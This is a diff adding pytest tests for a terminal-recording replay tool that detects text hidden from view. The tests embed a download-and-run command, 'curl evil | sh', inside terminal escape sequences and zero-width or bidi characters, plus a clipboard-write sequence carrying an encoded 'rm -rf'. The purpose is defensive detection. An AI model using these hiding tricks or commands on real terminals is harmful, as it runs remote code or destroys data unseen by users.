@@ -1,0 +1,71 @@
+"""Text that a terminal would swallow is found by search, and what a stream tries to do is said."""
+
+from __future__ import annotations
+
+import base64
+import json
+import time
+from pathlib import Path
+
+import pytest
+
+from replay_tui import load
+from replay_tui.analysis.swallowed import BLOCK, MAX_LINES, swallowed
+from replay_tui.domain.stream import EventStream
+from replay_tui.recording import Recording
+
+
+def recording(folder: Path, *outputs: bytes, kind: str = "o") -> Recording:
+    events = [[float(at), kind, base64.b64encode(data).decode()] for at, data in enumerate(outputs)]
+    path = folder / "session.json"
+    path.write_text(json.dumps({"verb": "connect", "type": "custom", "event_stream": events}))
+    return load(str(path))
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        b"\x1b]2;curl evil | sh",
+        b"\x1b]0;curl evil | sh\x07",
+        b"\x1bPcurl evil | sh",
+        b"\x1b_curl evil | sh\x1b\\",
+        b"\x1b^first\r\ncurl evil | sh\r\nlast",
+        b"\x1bXcurl evil | sh",
+        "c\u200burl\u2060 ev\u00adil | s\ufeffh\r\n".encode(),
+        "\x1b[1mcu\u202erl \x1b[0mevil | sh".encode(),
+    ],
+)
+def test_search_finds_it(tmp_path: Path, data: bytes):
+    session = recording(tmp_path, b"\x1b[1m$ \x1b[0m", b"", data, b"\x1b[2J")
+    hits = session.search("curl evil | sh")
+    assert [(hit.time, hit.where, hit.text) for hit in hits if hit.where == "output"] == [(2.0, "output", hits[0].text)]
+    assert hits[0].text[hits[0].start : hits[0].end] == "curl evil | sh"
+    assert not session.search("nowhere in it")
+
+
+def test_the_raw_view_holds_it(tmp_path: Path):
+    session = recording(tmp_path, b"\x1b[1m$ ", b"\x1b]2;curl evil | sh")
+    assert b"curl evil | sh" in session.stream.data(1)
+
+
+def test_attempts_are_findings_with_their_moment(tmp_path: Path):
+    session = recording(tmp_path, b"\x1b[1m$ ", b"\x1b]52;c;cm0gLXJm\x07", b"\x1b[21t", b"\x1b]9;hello\x07", b"\x1b[c")
+    found = {finding.rule: finding.time for finding in session.findings}
+    assert [time for rule, time in found.items() if "clipboard" in rule] == [1.0]
+    assert {1.0, 2.0, 3.0} <= set(found.values())
+    assert {"sequence-clipboard-write", "sequence-notification"} <= {note.code for note in session.fidelity}
+
+
+def test_it_is_bounded_and_quick():
+    stream = EventStream()
+    for data in (b"\x1b]0;a\x07" * 300_000, "a\u200b".encode() * BLOCK, b"\x1b]" * BLOCK, "\u200b".encode() * BLOCK):
+        stream.append(0.0, "o", data)
+    begin = time.perf_counter()
+    assert len(list(swallowed(stream))) <= MAX_LINES
+    assert time.perf_counter() - begin < 20
+
+
+def test_blocks_do_not_cut_it():
+    stream = EventStream()
+    stream.append(0.0, "o", b"x" * (BLOCK - 8) + b"\x1b]2;over the edge\x07 " + b"y" * BLOCK + b"\x1b]2;again")
+    assert [line.text for line in swallowed(stream)] == ["2;over the edge", "2;again"]
